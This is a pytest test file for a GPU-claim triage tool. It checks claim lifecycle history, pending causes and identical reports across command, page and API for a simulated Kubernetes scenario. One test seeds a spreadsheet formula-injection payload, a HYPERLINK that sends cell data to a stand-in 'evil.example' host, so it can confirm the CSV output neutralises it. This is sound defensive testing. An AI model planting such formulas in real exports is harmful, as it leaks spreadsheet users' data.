"""Claim history and the triage report on the monday scenario, replayed through fleet.ingest at its simulated
times: the recorded lifecycle follows the scenario's own timeline, and the page, the API and the command
show the same report."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from io import StringIO
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.db import connection, connections
from django.test import Client
from django.test.utils import CaptureQueriesContext
from rest_framework.test import APIClient

from claims.models import ClaimLifecycle, ClaimStateChange, PendingCause
from claims.triage.window import default_window, parse_when
from fleet import ingest
from fleet.normalize import normalize
from simulator import nvidia as nv
from simulator import scenarios
from simulator.workloads import ts
from tests.browser.conftest import screenshot
from tests.fleet_pages.server import asgi_server
from tests.triage.conftest import PASSWORD, played

pytestmark = pytest.mark.django_db
UNTIL = "2026-03-09T09:00:00Z"
UTC_ZONE = ZoneInfo("UTC")


def second(t: datetime) -> datetime:
    return t.replace(microsecond=0)


def lifecycle(monday, namespace: str, prefix: str) -> ClaimLifecycle:
    found = list(ClaimLifecycle.objects.filter(cluster=monday, namespace=namespace, name__startswith=prefix))
    assert len(found) == 1, (prefix, found)
    return found[0]


def expected_pending() -> dict[tuple[str, str], datetime]:
    """From the scenario's definitions: which workloads still wait on Monday 09:00, and since when.

    Every B200/B300 is held by the pretraining jobs (90 h), so the nine >= 150Gi finetunes wait; the all-1g
    node has 56 1g slices and nothing finishes, so the 1g claims after the 56th wait; the three broken
    claims never fit."""
    workloads = scenarios.monday_workloads(0)
    out = {}
    chat = sorted((w for w in workloads if w.name.startswith("chat-1g-")), key=lambda w: (w.arrival, w.name))
    for w in workloads:
        if w.name.startswith("finetune-") or w.kind in (
            "broken-cel",
            "unknown-attribute",
            "impossible-memory",
        ):
            out[(w.namespace, w.name)] = w.arrival
    for w in chat[56:]:
        out[(w.namespace, w.name)] = w.arrival
    return out


def pod_scheduled_at(namespace: str, pod: str) -> datetime:
    obj = played().simulation.cluster.get("Pod", namespace, pod)
    assert obj is not None
    condition = next(c for c in obj["status"]["conditions"] if c["type"] == "PodScheduled")
    return datetime.strptime(condition["lastTransitionTime"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)


# ------------------------------------------------------------------------------------------- history


def test_the_recorded_lifecycle_follows_the_scenarios_timeline(monday):
    waiting = expected_pending()
    retry = timedelta(minutes=30)
    for w in scenarios.monday_workloads(0):
        life = lifecycle(monday, w.namespace, f"{w.name}-0-gpus-")
        # created and pending since the workload arrived (Kubernetes timestamps are whole seconds)
        assert life.created_at == second(w.arrival)
        assert life.first_pending_at == second(w.arrival)
        if (w.namespace, w.name) in waiting:
            assert life.state == "pending" and life.allocated_at is None, w.name
        else:
            assert life.state == "reserved", w.name
            # allocated when the simulated scheduler placed its pod: on arrival or on a 30-minute retry
            assert life.allocated_at is not None, w.name
            waited = life.allocated_at - w.arrival
            assert waited >= timedelta(0) and waited % retry == timedelta(0), (w.name, waited)
            assert second(life.allocated_at) == pod_scheduled_at(w.namespace, f"{w.name}-0")
            assert life.node and life.devices
    assert ClaimLifecycle.objects.filter(cluster=monday, state="pending").count() == len(waiting)


def test_the_leaked_notebook_claim_records_each_state_change(monday):
    changes = list(
        ClaimStateChange.objects.filter(cluster=monday, name="notebook-alice-gpu")
        .order_by("at", "id")
        .values_list("from_state", "to_state", "at")
    )
    friday_20 = datetime(2026, 3, 6, 20, 0, tzinfo=UTC)
    assert changes == [
        ("", "pending", friday_20),
        ("pending", "reserved", friday_20),
        ("reserved", "allocated", friday_20 + timedelta(hours=3)),  # its pod deleted at 23:00
    ]
    life = ClaimLifecycle.objects.get(cluster=monday, name="notebook-alice-gpu")
    assert life.node == "h200-0000" and len(life.devices) == 1 and life.released_at is None


def test_causes_given_while_pending_are_kept(monday):
    categories = {
        (c.namespace, re.sub(r"-0-gpus-\w+$", "", c.name)): c.category
        for c in PendingCause.objects.filter(cluster=monday)
    }
    waiting = expected_pending()
    assert set(categories) == set(waiting)
    for (_namespace, name), category in categories.items():
        expected = (
            "capacity" if name.startswith("finetune-")
            else "fragmentation" if name.startswith("chat-1g-")
            else "no-match" if name == "huge-kv"
            else "cel-error"
        )  # fmt: skip
        assert category == expected, name
    for cause in PendingCause.objects.filter(cluster=monday):
        assert cause.first_seen <= cause.last_seen == scenarios.MONDAY_09


def test_a_claims_own_times_win_over_the_observation_time(db):
    """creationTimestamp, allocationTimestamp and deletionTimestamp, when given, are the recorded times."""
    cluster = ingest.get_or_create_cluster("times")
    created = datetime(2026, 3, 6, 18, 0, 0, tzinfo=UTC)
    allocated = created + timedelta(minutes=42)
    deleting = allocated + timedelta(hours=2)
    claim = nv.claim_object("ns", "c", [nv.exactly_request("gpu", "gpu.nvidia.com")], created=ts(created))
    claim["metadata"].update(uid="uid-1", resourceVersion="10")

    def apply(obj, rv, observed, op="upsert"):
        obj = {**obj, "metadata": {**obj["metadata"], "resourceVersion": str(rv)}}
        ingest.apply_batch(cluster, "ResourceClaim", [ingest.Change(op, normalize("ResourceClaim", obj))],
                           observed_at=observed)  # fmt: skip
        return obj

    apply(claim, 10, created + timedelta(seconds=5))
    status = nv.allocation_status([{"request": "gpu", "device": "gpu-0"}], "node-a")
    status["allocation"]["allocationTimestamp"] = ts(allocated)
    claim = apply({**claim, "status": status}, 11, allocated + timedelta(seconds=3))
    meta = {**claim["metadata"], "deletionTimestamp": ts(deleting)}
    claim = apply({**claim, "metadata": meta}, 12, deleting + timedelta(seconds=7))
    gone_at = deleting + timedelta(seconds=30)
    apply({**claim, "status": {}}, 13, gone_at, op="delete")

    life = ClaimLifecycle.objects.get(cluster=cluster, uid="uid-1")
    assert (life.created_at, life.first_pending_at, life.allocated_at) == (created, created, allocated)
    assert life.node == "node-a" and life.devices == ["gpu.nvidia.com/node-a/gpu-0"]
    assert (life.released_at, life.deleted_at, life.state) == (gone_at, gone_at, "deleted")
    steps = list(ClaimStateChange.objects.filter(uid="uid-1").order_by("id").values_list("to_state", "at"))
    assert steps == [("pending", created), ("allocated", allocated), ("deallocating", deleting),
                     ("deleted", gone_at)]  # fmt: skip


def test_the_history_hook_costs_the_same_statements_for_10_or_500_claims(db, monkeypatch):
    # A batch growing a table by a large part adds a constant ANALYZE (test_initial_sync_statistics.py).
    monkeypatch.setattr(ingest.statistics, "GROWN_OBJECTS", 10**9)
    cluster = ingest.get_or_create_cluster("bulk")

    def batch(n: int, offset: int, allocate: bool) -> int:
        changes = []
        for i in range(offset, offset + n):
            obj = nv.claim_object(
                "ns", f"c{i}", [nv.exactly_request("gpu", "gpu.nvidia.com")], created=UNTIL[:19] + "Z"
            )
            obj["metadata"].update(uid=f"u{i}", resourceVersion=str(100 + i + (10_000 if allocate else 0)))
            if allocate:
                obj["status"] = nv.allocation_status([{"request": "gpu", "device": f"gpu-{i}"}], "node-a")
            changes.append(ingest.Change("upsert", normalize("ResourceClaim", obj)))
        with CaptureQueriesContext(connection) as queries:
            ingest.apply_batch(cluster, "ResourceClaim", changes)
        return len(queries)

    assert batch(10, 0, False) == batch(500, 1000, False)  # all new
    assert batch(10, 0, True) == batch(500, 1000, True)  # all change state
    assert ClaimStateChange.objects.filter(cluster=cluster).count() == 2 * 510


# ------------------------------------------------------------------------------------------- window


def test_on_monday_the_default_window_starts_friday_18():
    monday_9 = scenarios.MONDAY_09
    assert default_window(monday_9, UTC_ZONE) == (datetime(2026, 3, 6, 18, 0, tzinfo=UTC), monday_9)
    wednesday = datetime(2026, 3, 11, 9, 30, tzinfo=UTC)
    assert default_window(wednesday, UTC_ZONE) == (wednesday - timedelta(hours=24), wednesday)
    assert parse_when("friday 18:00", "since", datetime(2026, 3, 6, 19, 0, tzinfo=UTC), UTC_ZONE) == datetime(
        2026, 3, 6, 18, 0, tzinfo=UTC
    )
    assert parse_when("friday 18:00", "since", datetime(2026, 3, 6, 17, 0, tzinfo=UTC), UTC_ZONE) == datetime(
        2026, 2, 27, 18, 0, tzinfo=UTC
    )


def test_a_bad_since_is_a_clear_cli_error(monday):
    with pytest.raises(CommandError, match=r"--since: 'last fryday' is not a time: give an ISO 8601 time"):
        call_command("triage", since="last fryday", stdout=StringIO())
    with pytest.raises(CommandError, match=r"--since: .* is not before until"):
        call_command("triage", since="2026-03-10", until=UNTIL, stdout=StringIO())
    with pytest.raises(CommandError, match=r"--cluster: no cluster named 'nope'"):
        call_command("triage", cluster="nope", stdout=StringIO())


def test_bad_parameters_are_a_400_naming_them(monday):
    api = APIClient()
    api.force_login(get_user_model().objects.get(username="oncall"))
    bad = [
        ({"since": "fryday"}, "since"),
        ({"until": "2026-13-01"}, "until"),
        ({"section": "x"}, "section"),
        ({"since": "2026-03-10", "until": UNTIL}, "since"),
        ({"until": "0001-01-01T00:00:00Z"}, "since"),  # the default window would start before year 1
        ({"since": "999999w", "until": "0001-01-02T00:00:00Z"}, "since"),
    ]
    for params, name in bad:
        response = api.get("/api/v1/triage/", params)
        assert response.status_code == 400 and name in response.json(), (params, response.content)
    page = Client()
    page.force_login(get_user_model().objects.get(username="oncall"))
    shown = page.get("/claims/triage/", {"since": "fryday"})
    assert shown.status_code == 400 and shown["Content-Type"].startswith("text/html")
    html = shown.content.decode()
    assert '<input name="since" value="fryday"' in html  # what was typed stays, with its message beside it
    assert re.search(
        r'aria-invalid="true"></label><span class="error" role="alert">Bad since: [^<]+</span>', html
    )
    # The default window's report is still there.
    assert "window-form" in html and "Claims that pended" in html


# ------------------------------------------------------------------------------------------- report


def command_json(**options) -> dict:
    out = StringIO()
    call_command("triage", format="json", stdout=out, **options)
    return json.loads(out.getvalue())


def page_report(client: Client, params: dict) -> tuple[dict, str]:
    response = client.get("/claims/triage/", params)
    assert response.status_code == 200
    html = response.content.decode()
    block = re.search(r'<script id="triage-data" type="application/json">(.*?)</script>', html, re.S)
    assert block
    return json.loads(block.group(1)), html


def test_the_command_the_page_and_the_api_show_the_same_report(monday):
    oncall = get_user_model().objects.get(username="oncall")
    params = {"since": "friday 18:00", "until": UNTIL, "cluster": "monday"}
    cli = command_json(**params)
    client = Client()
    client.force_login(oncall)
    shown, html = page_report(client, params)
    api = APIClient()
    api.force_login(oncall)
    response = api.get("/api/v1/triage/", params)
    assert response.status_code == 200
    assert cli == shown == response.json()

    # the report itself: what the scenario constructed
    waiting = expected_pending()
    assert cli["window"]["since"] == "2026-03-06T18:00:00Z"
    assert cli["totals"]["pended"] == cli["totals"]["still_pending"] == len(waiting)
    seconds = [p["seconds"] for p in cli["pended"]]
    assert seconds == sorted(seconds, reverse=True)
    for row in cli["pended"]:
        arrival = waiting[(row["namespace"], re.sub(r"-0-gpus-\w+$", "", row["name"]))]
        assert row["seconds"] == (scenarios.MONDAY_09 - second(arrival)).total_seconds()
    counts = sorted((c["category"], c["count"]) for c in cli["causes"])
    assert counts == [
        ("capacity", 9),
        ("cel-error", 1),
        ("cel-error", 1),
        ("fragmentation", 5),
        ("no-match", 1),
    ]
    assert [(m["profile"], m["idle_bigger"]) for m in cli["mig_exhaustion"]] == [("1g.10gb", {"3g.40gb": 12})]
    assert [x["name"] for x in cli["leaks"]] == ["notebook-alice-gpu"]
    assert {s["model"] for s in cli["allocation"]} == {"B200", "B300", "H100", "H200"}

    # the page's table shows the same claims, in the same order, with the same durations
    rows = re.findall(r'<tr data-claim="([^"]+)" data-seconds="(\d+)">', html)
    assert rows == [(f"monday/{p['namespace']}/{p['name']}", str(p["seconds"])) for p in cli["pended"]]
    assert re.findall(r'<tr data-key="[^"]*" data-count="(\d+)">', html) == [
        str(c["count"]) for c in cli["causes"]
    ]


def test_csv_parses_and_matches_the_json(monday):
    params = {"since": "friday 18:00", "until": UNTIL}
    report = command_json(**params)
    api = APIClient()
    api.force_login(get_user_model().objects.get(username="oncall"))
    for section in ("pended", "causes", "leaks", "allocation"):
        out = StringIO()
        call_command("triage", format="csv", section=section, stdout=out, **params)
        response = api.get("/api/v1/triage/", {**params, "format": "csv", "section": section})
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        assert response.content.decode() == out.getvalue()
        rows = list(csv.DictReader(io.StringIO(out.getvalue())))
        if section == "allocation":
            assert len(rows) == sum(len(s["time"]) for s in report["allocation"])
            continue
        assert len(rows) == len(report[section])
        for row, item in zip(rows, report[section], strict=True):
            assert (
                row["name" if "name" in item else "summary"] == item["name" if "name" in item else "summary"]
            )
            if "seconds" in item:
                assert int(row["seconds"]) == item["seconds"]


@pytest.mark.parametrize("section", ["pended", "causes", "leaks", "allocation"])
def test_a_formula_in_cluster_data_comes_back_inert_from_the_triage_csv(monday, section):
    """The report's CSV (API and command) goes through the API's renderer: names, causes and models a
    cluster wrote that look like formulas come back with OWASP's leading quote (the updates roll back)."""
    from django.db.models import F, Value
    from django.db.models.functions import Concat

    from fleet.models import AllocationSample
    from tests.api.test_csv_injection import assert_inert

    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    for model in (ClaimLifecycle, ClaimStateChange, PendingCause):
        model.objects.update(name=payload)
    PendingCause.objects.update(summary=payload)
    AllocationSample.objects.update(model=Concat(Value("@"), F("model")))
    params = {"since": "friday 18:00", "until": UNTIL}
    out = StringIO()
    call_command("triage", format="csv", section=section, stdout=out, **params)
    api = APIClient()
    api.force_login(get_user_model().objects.get(username="oncall"))
    response = api.get("/api/v1/triage/", {**params, "format": "csv", "section": section})
    assert response.status_code == 200 and response.content.decode() == out.getvalue()
    rows = assert_inert(out.getvalue())
    if section == "causes":  # summaries are claimscope's words; the names are in a JSON list ("[...")
        assert rows and any("HYPERLINK" in row["examples"] for row in rows), rows[:1]
        return
    column, value = ("model", "@") if section == "allocation" else ("name", payload)
    assert rows and all(row[column].startswith("'" + value) for row in rows), rows[:1]


def test_a_namespace_scoped_user_sees_only_their_claims_by_name(monday):
    dev = get_user_model().objects.get(username="inference-dev")
    api = APIClient()
    api.force_login(dev)
    report = api.get("/api/v1/triage/", {"since": "friday 18:00", "until": UNTIL}).json()
    assert {p["namespace"] for p in report["pended"]} == {"inference"}
    assert report["totals"]["pended"] == len(expected_pending())
    assert report["totals"]["hidden"] == len(expected_pending()) - 5
    assert report["leaks"] == [] and report["totals"]["leaks"] == 1
    named = [e for c in report["causes"] for e in c["examples"]]
    assert named and all(e.startswith("inference/") for e in named)
    anonymous = {c["category"]: c["count"] for c in report["causes"] if not c["key"]}
    assert anonymous == {"capacity": 9, "cel-error": 2, "no-match": 1}
    body = json.dumps(report)
    assert "finetune" not in body and "ml-train" not in body and "research" not in body


# ------------------------------------------------------------------------------------------- browser


@pytest.fixture
def server():
    # Server threads must not keep connections open past the test (the test database is dropped after).
    max_age = connections.databases["default"].get("CONN_MAX_AGE")
    connections.databases["default"]["CONN_MAX_AGE"] = 0
    with asgi_server() as url:
        yield url
    connections.databases["default"]["CONN_MAX_AGE"] = max_age


@pytest.mark.browser
# Not inside a test transaction: the server thread writes the login's session, and SQLite's writer lock
# would wait for the test's open transaction (PostgreSQL has no such lock; the test runs on both).
@pytest.mark.django_db(transaction=True)
def test_the_triage_page_renders_its_chart_in_chromium(monday, server, page):
    page.goto(server + "/accounts/login/")
    page.fill("input[name=username]", "oncall")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(server + "/")
    page.goto(f"{server}/claims/triage/?since=friday+18:00&until={UNTIL}&cluster=monday")
    page.wait_for_selector("#allocation-chart[data-rendered]")
    assert page.get_attribute("#allocation-chart", "data-rendered") == "4"  # B200, B300, H100, H200
    assert page.locator("#allocation-chart .scatterlayer .trace").count() == 4
    page.wait_for_selector("#mig-chart[data-rendered]")
    assert page.get_attribute("#mig-chart", "data-rendered") == "1"  # H100 1g.10gb
    assert page.locator("#pended tbody tr").count() == len(expected_pending())
    assert "9 want memory >= 150Gi" in page.inner_text("#causes")
    assert page.console_errors == []
    screenshot(page, "triage_monday")
    page.emulate_media(media="print")
    assert not page.is_visible("header.top") and not page.is_visible("form.window-form")
    screenshot(page, "triage_monday_print")


def test_the_api_query_count_does_not_grow_with_the_claims_in_the_window(monday):
    api = APIClient()
    api.force_login(get_user_model().objects.get(username="oncall"))

    def queries(params: dict) -> int:
        with CaptureQueriesContext(connection) as captured:
            assert api.get("/api/v1/triage/", params).status_code == 200
        return len(captured)

    empty = queries({"since": "2026-03-01T00:00:00Z", "until": "2026-03-02T00:00:00Z"})
    weekend = queries({"since": "friday 18:00", "until": UNTIL})
    assert empty == weekend


def test_a_relist_closes_claims_it_no_longer_has_or_that_were_recreated(db):
    cluster = ingest.get_or_create_cluster("relist")
    seen = datetime(2026, 3, 6, 18, 0, tzinfo=UTC)
    relisted = seen + timedelta(hours=1)

    def claim(name: str, uid: str, rv: int):
        obj = nv.claim_object("ns", name, [nv.exactly_request("gpu", "gpu.nvidia.com")], created=ts(seen))
        obj["metadata"].update(uid=uid, resourceVersion=str(rv))
        return normalize("ResourceClaim", obj)

    ingest.replace_all(cluster, "ResourceClaim", [claim("a", "uid-a", 10), claim("b", "uid-b", 11)], 11,
                       observed_at=seen)  # fmt: skip
    # Later relist: "a" is gone, "b" was deleted and created again (new uid) while nobody watched.
    ingest.replace_all(cluster, "ResourceClaim", [claim("b", "uid-b2", 20)], 20, observed_at=relisted)
    states = dict(ClaimLifecycle.objects.filter(cluster=cluster).values_list("uid", "state"))
    assert states == {"uid-a": "deleted", "uid-b": "deleted", "uid-b2": "pending"}
    gone = ClaimLifecycle.objects.filter(cluster=cluster, state="deleted").values_list(
        "deleted_at", flat=True
    )
    assert set(gone) == {relisted}
